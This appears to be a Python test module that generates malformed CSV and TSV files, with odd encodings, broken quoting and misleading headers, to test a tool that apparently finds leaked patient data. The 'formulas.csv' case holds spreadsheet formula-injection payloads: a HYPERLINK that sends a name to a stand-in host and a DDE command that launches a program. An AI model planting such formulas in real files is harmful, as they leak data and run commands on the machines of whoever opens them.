"""Hostile tables of text: encodings, quotes, delimiters and headers that lie."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from tests.leak.hostile_tables.case import COLUMNS, Hostile, Person, hostile


def table(rows: Iterable[Sequence[str]], delimiter: str = ",", end: str = "\n", header: Sequence[str] = COLUMNS) -> str:
    """Return rows as a table of text under `header`."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=end).writerows([header, *rows])
    return out.getvalue()


def files() -> list[Hostile]:
    """Return the hostile tables of text."""
    return [*_encodings(), *_shapes(), *_headers()]


def _encodings() -> list[Hostile]:
    p = [Person(n) for n in range(30)]
    umlaut = p[3].family.replace("o", "ö").replace("e", "ë")
    split = p[8].family[:2] + "\u200b" + p[8].family[2:]
    wide = "".join(chr(ord(letter) + 0xFEE0) for letter in p[9].family)
    return [
        hostile("bom.csv", b"\xef\xbb\xbf" + table([p[0].row]).encode(), p[0]),
        hostile("utf16.csv", table([p[1].row]).encode("utf-16"), p[1]),
        hostile("utf16-without-mark.csv", table([p[2].row]).encode("utf-16-le"), p[2], "either"),
        hostile(
            "two-encodings.csv",
            table([p[3].row]).encode() + f"Q1,{umlaut},{p[3].phone},,5,Seen: {umlaut}\n".encode("latin-1"),
            p[3],
            "either",
            planted=[umlaut],
        ),
        hostile("nul.csv", table([p[4].row]).replace("Patient", "Pat\0ient"), p[4], "either"),
        hostile(
            "overlong.csv", table([p[5].row]).encode().replace(b"seen.", b"s\xc0\xa5en\xed\xa0\x80."), p[5], "either"
        ),
        hostile("utf7.csv", table([p[6].row]).replace("Patient", "+AEE-"), p[6], "either"),
        hostile("utf32.csv", table([p[7].row]).encode("utf-32"), p[7], "either"),
        hostile(
            "zero-width.csv",
            table([(*p[8].row[:5], p[8].note.replace(p[8].family, split))]),
            p[8],
            planted=[split],
        ),
        hostile("wide.csv", table([(*p[9].row[:5], p[9].note.replace(p[9].family, wide))]), p[9], planted=[wide]),
    ]


def _shapes() -> list[Hostile]:
    p = [Person(n) for n in range(30)]
    return [
        hostile("open-quote.csv", table([p[10].row]) + 'Q9,"' + ",".join(p[11].row[1:]) + "\n", p[10:12], "either"),
        hostile(
            "decimal-commas.csv",
            ";".join(COLUMNS) + "\n" + ";".join((*p[12].row[:4], p[12].fact.replace(".", ","), p[12].note)) + "\n",
            p[12],
        ),
        hostile("bars-in-notes.csv", table([(*p[13].row[:5], p[13].note + "|a|b|c|d|e")] * 3), p[13]),
        hostile("lines-in-cells.csv", table([(*p[14].row[:5], p[14].note.replace(" ", "\r\n"))]), p[14]),
        hostile(
            "ragged.csv", table([p[15].row, (*p[16].row, p[16].family, p[16].phone), p[16].row[:2]]), p[15:17], "either"
        ),
        hostile(
            "wide-table.csv",
            lambda: table([(*p[17].row, *[p[17].family] * 10_000)], header=(*COLUMNS, *map(str, range(10_000)))),
            p[17],
            "either",
        ),
        hostile(
            "cell-of-50-mb.csv", lambda: table([(*p[18].row[:5], "x " * (25 << 20) + p[18].note)]), p[18], "either"
        ),
        hostile("cr-only.csv", table([p[19].row], end="\r"), p[19]),
        hostile(
            "formulas.csv",
            table(
                [
                    (*p[20].row[:5], f'=HYPERLINK("http://x.test/{p[20].family}","{p[20].note}")'),
                    (*p[21].row[:5], "@SUM(1+9)*cmd|' /C calc'!A0 " + p[21].note),
                ]
            ),
            p[20:22],
        ),
        hostile("sep-lies.csv", "sep=|\n" + table([p[22].row]), p[22], "either"),
        hostile("tabs-in-quotes.tsv", table([(*p[23].row[:5], p[23].note.replace(" ", "\t"))], "\t"), p[23]),
        hostile(
            "name-in-two-cells.tsv",
            table([(*p[24].row[:5], f'Mr. {p[24].family}\'s "son"\tseen. {p[24].fact}')], "\t"),
            p[24],
        ),
        hostile("workbook.csv", b"PK\x03\x04\x14\0\0\0" + table([p[25].row]).encode(), p[25], "refused"),
        hostile("page.csv", f"<html><table><tr><td>{p[26].family}</td></tr></table></html>\n", p[26], "refused"),
        hostile("mail@example.org Tarquil Vexholma.csv", table([p[27].row]), p[27], planted=["Vexholma.csv"]),
    ]


def _headers() -> list[Hostile]:
    p = [Person(n) for n in range(30, 45)]
    return [
        hostile("same-column-twice.csv", table([(*p[0].row, p[0].family)], header=(*COLUMNS, "note")), p[0], "refused"),
        hostile("same-in-other-case.csv", table([(*p[1].row, p[1].family)], header=(*COLUMNS, "NOTE")), p[1], "either"),
        hostile("no-header.csv", table([p[3].row], header=p[2].row), p[2:4], "refused"),
        hostile(
            "header-is-a-patient.csv",
            table([(*p[4].row, "yes")], header=(*COLUMNS, " ".join(p[4].row[1:3]))),
            p[4],
            "either",
        ),
        hostile("empty-column.csv", table([(*p[5].row, p[5].family)], header=(*COLUMNS, "")), p[5], "refused"),
        hostile("title-first.csv", f"Report on {p[6].given} {p[6].family}\n\n" + table([p[6].row]), p[6], "refused"),
        hostile("comments.csv", f"# for {p[7].family}\n" + table([p[7].row]) + f"# {p[7].phone}\n", p[7], "either"),
        hostile("header-alone.csv", ",".join(p[8].row) + "\n", p[8], "refused", facts=()),
        hostile("blank-lines.csv", "\n\n" + table([p[9].row]) + "\n\n,,,,,\n", p[9], "either"),
        hostile("names-with-blanks.csv", table([p[10].row], header=[f" {name} " for name in COLUMNS]), p[10], "either"),
    ]
